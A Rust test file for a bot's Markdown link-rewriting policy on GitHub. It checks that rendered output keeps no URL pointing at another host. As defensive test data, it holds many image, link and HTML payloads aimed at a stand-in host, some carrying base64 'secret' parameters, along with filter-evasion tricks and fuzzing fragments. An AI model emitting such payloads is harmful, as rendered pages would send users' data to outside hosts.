//! Links in what fro-bot posts (docs/security.md#links-in-what-fro-bot-posts), read by GitHub's
//! own Markdown parser (cmark-gfm, with its extensions and raw HTML on, before GitHub's sanitizer
//! — stricter than what GitHub renders): every attack below does put a URL of another host into
//! the rendered page as written, and none does after `outbound::rewrite`.

use std::io::Write;
use std::process::{Command, Stdio};

use fro_bot::egress::Allowlist;
use fro_bot::outbound::policy::Verdict;
use fro_bot::outbound::{rewrite, LinkPolicy};

use crate::support::services::gfm_python;

/// Renders each text as GitHub's parser does; returns every URL in a fetched or followed
/// attribute of the HTML (character references undone by the HTML parser), and every URL-like
/// text in a fence GitHub renders itself.
const RENDER: &str = r#"
import sys, json, re, cmarkgfm
from cmarkgfm.cmark import Options
from html.parser import HTMLParser
URL = {"src", "href", "poster", "data", "action", "formaction", "background", "cite", "longdesc"}
# Fences GitHub renders itself (a diagram, a map, a model, math) rather than shows as code.
RENDERED = ("mermaid", "geojson", "topojson", "stl", "math")
IN_TEXT = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.-]*:)?//[^\s\"'<>)\]]+|www\.[^\s\"'<>)\]]+")
class P(HTMLParser):
    def __init__(self):
        super().__init__()
        self.urls = []
        self.rendered = 0
    def handle_endtag(self, tag):
        if tag == "pre" and self.rendered:
            self.rendered -= 1
    def handle_data(self, data):
        if self.rendered:
            self.urls += [u if "//" in u else "http://" + u for u in IN_TEXT.findall(data)]
    def handle_starttag(self, tag, attrs):
        if tag == "pre":
            lang = (dict(attrs).get("lang") or "").lower()
            if lang.startswith(RENDERED):
                self.rendered += 1
        for k, v in attrs:
            if v is None:
                continue
            if k in URL:
                self.urls.append(v)
            elif k == "srcset":
                self.urls += [c.split()[0] for c in v.split(",") if c.split()]
out = []
for t in json.load(sys.stdin):
    html = cmarkgfm.github_flavored_markdown_to_html(t, options=Options.CMARK_OPT_UNSAFE | Options.CMARK_OPT_FOOTNOTES)
    p = P()
    # Python's parser stops at a `<![` it cannot name; read as text, what follows is still read.
    p.feed(html.replace("<![", "&lt;!["))
    out.append({"html": html, "urls": p.urls})
json.dump(out, sys.stdout)
"#;

#[derive(serde::Deserialize, Debug)]
struct Rendered {
    html: String,
    urls: Vec<String>,
}

/// Every URL GitHub's parser puts on the page for each text: in a fetched or followed attribute,
/// or in a fence GitHub renders itself (for the e2e tests, which judge them themselves).
pub(crate) fn live_urls(texts: &[String]) -> Vec<Vec<String>> {
    render(texts).into_iter().map(|r| r.urls).collect()
}

fn render(texts: &[String]) -> Vec<Rendered> {
    let mut child = Command::new(gfm_python())
        .args(["-c", RENDER])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let input = serde_json::to_vec(texts).unwrap();
    child.stdin.take().unwrap().write_all(&input).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "cmarkgfm failed");
    serde_json::from_slice(&out.stdout).unwrap()
}

fn policy() -> LinkPolicy {
    LinkPolicy::new(
        "https://github.com",
        "octo/hello",
        Allowlist::parse("docs.rs").unwrap(),
    )
}

/// The URLs in `r` the policy would not keep as they are.
fn not_kept(r: &Rendered) -> Vec<String> {
    let p = policy();
    r.urls
        .iter()
        .filter(|u| p.judge(u) != Verdict::Keep)
        .cloned()
        .collect()
}

const D: &str = "https://anywhere.example/p.png?d=c2VjcmV0";

fn attacks() -> Vec<String> {
    let long = "A".repeat(400);
    vec![
        format!("![chart]({D})"),
        format!("[a report]({D} \"t\")"),
        format!("<{D}>"),
        format!("Look at {D} now"),
        format!("www.anywhere.example/p?d=1"),
        "https://anywhere.example/_x_?d=c2VjcmV0".into(),
        "https://anywhere.example/*a*b?d=1".into(),
        format!("[r] and [x][r]\n\n[r]: {D}\n"),
        format!("<img src=\"{D}\">"),
        format!("<p><img alt=x src='{D}'></p>\n\ntext"),
        format!("<picture><source srcset=\"{D} 1x, a.png 2x\"><img src=\"a.png\"></picture>"),
        "<img src=\"&#104;ttps&#58;//anywhere.example/p\">".into(),
        "<a href=\"https&colon;//anywhere.example/p\">x</a>".into(),
        "[x](https&#58;//anywhere.example/p)".into(),
        "[x](https://%61nywhere.example/p)".into(),
        "[x](//anywhere.example/p)".into(),
        "[x](https://github.com@anywhere.example/p)".into(),
        "[x](ws://anywhere.example/p)".into(),
        "[x](smb://anywhere.example/share)".into(),
        "[x](data:image/png;base64,AAAA)".into(),
        "\\` ![](https://anywhere.example/q) `".into(),
        "a ` b https://anywhere.example/z".into(),
        "| a | b |\n|---|---|\n| ![](https://anywhere.example/x) | y |".into(),
        "> quote <img\n> src=\"https://anywhere.example/p\">".into(),
        "- item\n\n  <img src=\"https://anywhere.example/p\">".into(),
        "[![a](https://anywhere.example/i.png)](https://anywhere.example/l)".into(),
        format!("![x](https://github.com/a.png?d={long})"),
        format!("https://github.com/x?d={long}"),
        format!("<img src=\"https://github.com/a.png?d={long}\">"),
        "<video src=\"https://anywhere.example/v.mp4\" poster=\"https://anywhere.example/p\"></video>"
            .into(),
        "[x]: https://anywhere.example/a\n\n[x]".into(),
        "Footnote[^1].\n\n[^1]: ![](https://anywhere.example/f.png)".into(),
        "[x](https://anywhere.example/a(b)c)".into(),
        "[x]\n(https://anywhere.example/p)".into(),
        "www.anywhere.example/_a_?d=1".into(),
        "HTTPS://ANYWHERE.EXAMPLE/x".into(),
        "https://\u{430}nywhere.example/x".into(),
        "# ![](https://anywhere.example/h.png)".into(),
        "<div>\n\n![](https://anywhere.example/d.png)\n\n</div>".into(),
        "<img src=\"https://anywhere.example/p\"/>".into(),
        "[x](<mailto:a@anywhere.example?body=c2VjcmV0>)".into(),
        "*![](https://anywhere.example/e.png)*".into(),
        "~~https://anywhere.example/s~~".into(),
        "- [ ] task https://anywhere.example/t".into(),
        "1. ![](https://anywhere.example/o.png)".into(),
        "  ![](https://anywhere.example/i.png)".into(),
        "a<br>![](https://anywhere.example/b.png)".into(),
        "<a href=https://anywhere.example/u>x</a>".into(),
        "<a\nhref=\"https://anywhere.example/m\">x</a>".into(),
        "x https://anywhere.example/p?q=(a)b).".into(),
        "[a](https://anywhere.example/1) [b](https://github.com/2) ![c](https://anywhere.example/3)"
            .into(),
    ]
}

#[test]
fn every_attack_puts_another_hosts_url_on_the_page_and_none_does_after_the_rewrite() {
    let attacks = attacks();
    let before = render(&attacks);
    let rewritten: Vec<String> = attacks.iter().map(|a| rewrite(a, &policy()).text).collect();
    let after = render(&rewritten);
    let mut wrong = Vec::new();
    for (i, attack) in attacks.iter().enumerate() {
        if not_kept(&before[i]).is_empty() {
            wrong.push(format!(
                "not an attack as GitHub reads it: {attack:?} → {}",
                before[i].html
            ));
        }
        if !not_kept(&after[i]).is_empty() {
            wrong.push(format!(
                "{attack:?}\n→ {:?}\n→ {}\nstill links {:?}",
                rewritten[i],
                after[i].html,
                not_kept(&after[i])
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
}

#[test]
fn what_the_policy_allows_renders_exactly_as_written() {
    let kept: Vec<String> = vec![
        "[PR #1](https://github.com/octo/hello/pull/1) and ![shot](docs/shot.png)".into(),
        "See https://docs.rs/url and <https://raw.githubusercontent.com/octo/hello/main/a.png>".into(),
        "<details><summary>Log</summary>\n\n```\ncurl https://anywhere.example/x\n```\n\n</details>"
            .into(),
        "<img src=\"https://github.com/octo/hello/raw/main/a.png\" width=\"40\">".into(),
        "| a | b |\n|---|---|\n| [x](https://octo.github.io/hello/) | y |".into(),
        "Mail someone@anywhere.example or <a@anywhere.example>.".into(),
        "```sh\ncurl https://anywhere.example/fenced\n```".into(),
    ];
    for text in &kept {
        let r = rewrite(text, &policy());
        assert_eq!(&r.text, text);
        assert!(r.findings.is_empty(), "{text}: {:?}", r.findings);
    }
    let rendered = render(&kept);
    assert!(rendered.iter().all(|r| not_kept(r).is_empty()));
    assert!(
        rendered[0]
            .html
            .contains("href=\"https://github.com/octo/hello/pull/1\""),
        "{}",
        rendered[0].html
    );
}

/// Parser differential: documents stitched at random from attack fragments and the characters
/// that change how Markdown reads what follows (brackets, backticks, backslashes, container
/// markers), each piece nested in block quotes, list items and table cells at depths 0 to 3
/// (`fuzz_document`). Whatever pulldown-cmark and GitHub's parser disagree on, the rewrite must
/// leave no other host's URL on the page as GitHub renders it, and no fence GitHub renders
/// itself (Mermaid, maps, models, math) holding one. Seeded, so a failure repeats: the CI sample
/// is small; `scripts/fuzz <seconds> links` runs many seeds (FRO_BOT_TEST_SEED, FRO_BOT_TEST_DOCS).
#[test]
fn random_mixtures_of_attack_fragments_never_leave_another_hosts_url_on_the_page() {
    use rand::SeedableRng;
    let seed = std::env::var("FRO_BOT_TEST_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(34);
    let count = std::env::var("FRO_BOT_TEST_DOCS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(3000);
    let mut rng = rand::rngs::StdRng::seed_from_u64(seed);
    let mut leaks = Vec::new();
    // In batches, so a large run holds little at once.
    let mut done = 0;
    while done < count {
        let n = (count - done).min(20_000);
        let docs: Vec<String> = (0..n).map(|_| fuzz_document(&mut rng)).collect();
        leaks.extend(leaks_of(&docs));
        done += n;
    }
    assert!(
        leaks.is_empty(),
        "seed {seed}: {} of {count} leak; the first:\n{}",
        leaks.len(),
        leaks
            .iter()
            .take(3)
            .cloned()
            .collect::<Vec<_>>()
            .join("\n\n")
    );
    eprintln!("seed {seed}: {count} documents, no leak");
}

/// Each document whose rewrite still puts another host's URL on the page, or in a fence GitHub
/// renders, described.
fn leaks_of(docs: &[String]) -> Vec<String> {
    let rewritten: Vec<String> = docs.iter().map(|d| rewrite(d, &policy()).text).collect();
    let after = render(&rewritten);
    docs.iter()
        .zip(&rewritten)
        .zip(&after)
        .filter(|(_, r)| !not_kept(r).is_empty())
        .map(|((d, w), r)| format!("{d:?}\n→ {w:?}\n→ {}\nlinks {:?}", r.html, not_kept(r)))
        .collect()
}

const FRAGMENTS: &[&str] = &[
    "![a](https://anywhere.example/1.png)",
    "[b](https://anywhere.example/2)",
    "<https://anywhere.example/3>",
    "https://anywhere.example/4?d=x",
    "www.anywhere.example/5",
    "<img src=\"https://anywhere.example/6\">",
    "<a href='//anywhere.example/7'>",
    "[r]: https://anywhere.example/8",
    "[r]: https&#58;//anywhere.example/8e",
    "[r]",
    "[c][r]",
    "&#104;ttps://anywhere.example/9",
    "<img src=&#x68;ttps://anywhere.example/10>",
    // Tags cut over lines, attributes after references, entities and whitespace tricks.
    "<img\nsrc=\"https&#58;//anywhere.example/12\">",
    "<img src=\"https&#58;//anywhere.example/13\">",
    "<img\tsrc=&#104;ttps&colon;//anywhere.example/14>",
    "<img/src=\"//anywhere.example/15\"/>",
    "<img src\n=\n\"https&#x3A;//anywhere.example/16\">",
    "<img src=\"https&NewLine;://anywhere.example/17\">",
    "<a\nhref=&#x2F;&#x2F;anywhere.example/18>x</a>",
    "<img alt=\"a>b\" src=\"https://anywhere.example/19\">",
    "<img alt='\n' src=https&#58//anywhere.example/20>",
    "<div",
    "<table",
    "<p",
    "<details",
    "<img",
    "<a",
    "src=\"https&#58;//anywhere.example/21\">",
    "src=//anywhere.example/22>",
    " href=https&#x3a;//anywhere.example/23 >",
    "&#58;",
    "https",
    "//anywhere.example/24",
    // Fences GitHub renders itself.
    "```mermaid",
    "~~~geojson",
    "```stl",
    "``` topojson",
    "```math",
    "graph A[<img src='https://anywhere.example/25'>]",
    "{\"type\":\"Feature\",\"properties\":{\"u\":\"https://anywhere.example/26\"}}",
    "```",
    "~~~",
    "`",
    "``",
    "\\",
    "\\`",
    "<!--",
    "-->",
    "<div>",
    "</div>",
    "[",
    "]",
    "(",
    ")",
    "![",
    "](",
    "https://",
    "anywhere.example/11",
    "*",
    "_",
    "|",
    "<",
    ">",
    "&",
    "\"",
    "'",
    "=",
    "[x](https://github.com/octo/hello)",
    "<img src=\"https://github.com/octo/hello/a.png\">",
    "text",
];

const JOINS: &[&str] = &[
    "", " ", "\n", "\n\n", "\n> ", "\n- ", "\n    ", "\n| ", " | ", "\t", "\n1. ",
];

/// One random document: a few blocks, each a run of fragments nested in up to three containers.
fn fuzz_document(rng: &mut impl rand::Rng) -> String {
    let mut doc = String::new();
    for b in 0..rng.random_range(1..4) {
        if b > 0 {
            doc.push_str(["\n", "\n\n"][rng.random_range(0..2)]);
        }
        let mut block = String::new();
        for _ in 0..rng.random_range(1..9) {
            block.push_str(JOINS[rng.random_range(0..JOINS.len())]);
            block.push_str(FRAGMENTS[rng.random_range(0..FRAGMENTS.len())]);
        }
        for _ in 0..rng.random_range(0..4) {
            block = nest(&block, rng);
        }
        doc.push_str(&block);
    }
    doc
}

/// `text` inside one container: a block quote, a bullet or numbered list item, or a table's
/// cell (a row per line); now and then with lazy continuation lines (no marker).
fn nest(text: &str, rng: &mut impl rand::Rng) -> String {
    let lazy = rng.random_bool(0.2);
    let (first, rest, table) = match rng.random_range(0..5) {
        0 => ("> ", "> ", false),
        1 => (">", ">", false),
        2 => ("- ", "  ", false),
        3 => ("1. ", "   ", false),
        _ => ("| ", "| ", true),
    };
    let mut out = String::new();
    if table {
        out.push_str("| a | b |\n|---|---|\n");
    }
    for (i, line) in text.split('\n').enumerate() {
        if i > 0 {
            out.push('\n');
        }
        let marker = match (i, lazy) {
            (0, _) => first,
            (_, true) => "",
            _ => rest,
        };
        out.push_str(marker);
        out.push_str(line);
        if table {
            out.push_str(" | y |");
        }
    }
    out
}
